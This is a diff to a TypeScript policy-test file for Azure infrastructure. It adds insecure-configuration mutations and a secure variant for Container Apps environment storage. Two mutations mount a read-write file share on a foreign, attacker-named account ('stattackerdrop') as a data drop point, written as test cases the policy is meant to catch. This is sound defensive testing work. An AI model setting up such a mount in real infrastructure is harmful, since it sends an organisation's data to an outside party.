@@ -432,6 +432,40 @@ export const MUTATIONS: Mutation[] = [
     control: "MON-1",
   })),
 
+  // Container Apps environment storage: apps write to whatever share the environment mounts (ENV-1)
+  ...(
+    [
+      [
+        "an Azure Files share of a foreign account",
+        { azureFile: { accountName: "stattackerdrop", shareName: "drop", accessMode: "ReadWrite" } },
+      ],
+      [
+        "an NFS share of a foreign account",
+        {
+          nfsAzureFile: {
+            server: "stattackerdrop.file.core.windows.net",
+            shareName: "/stattackerdrop/drop",
+            accessMode: "ReadWrite",
+          },
+        },
+      ],
+    ] as const
+  ).map(([what, properties]): Mutation => ({
+    id: `environment mounts ${what}`,
+    add: {
+      type: "azure-native:app:ManagedEnvironmentsStorage",
+      name: "drop",
+      inputs: (c) => ({
+        resourceGroupName: c.resourceGroup,
+        environmentName: c.nameOf(T.env),
+        storageName: "drop",
+        properties,
+      }),
+    },
+    policy: "container-apps-run-in-stack",
+    control: "ENV-1",
+  })),
+
   // Subnets and peering (NET-1, ENV-1)
   {
     id: "apps subnet uses an NSG outside the stack",
@@ -914,6 +948,21 @@ export const MUTATIONS: Mutation[] = [
 ];
 
 export const SECURE_VARIATIONS: Variation[] = [
+  {
+    id: "environment mounts an Azure Files share of the stack's own account (no key in code)",
+    add: {
+      type: "azure-native:app:ManagedEnvironmentsStorage",
+      name: "own-share",
+      inputs: (c: Context) => ({
+        resourceGroupName: c.resourceGroup,
+        environmentName: c.nameOf(T.env),
+        storageName: "own-share",
+        properties: {
+          azureFile: { accountName: c.nameOf(T.account), shareName: "share", accessMode: "ReadOnly" },
+        },
+      }),
+    },
+  },
   {
     id: "action group also e-mails a second on-call mailbox of the reviewed domain",
     type: T.actionGroup,
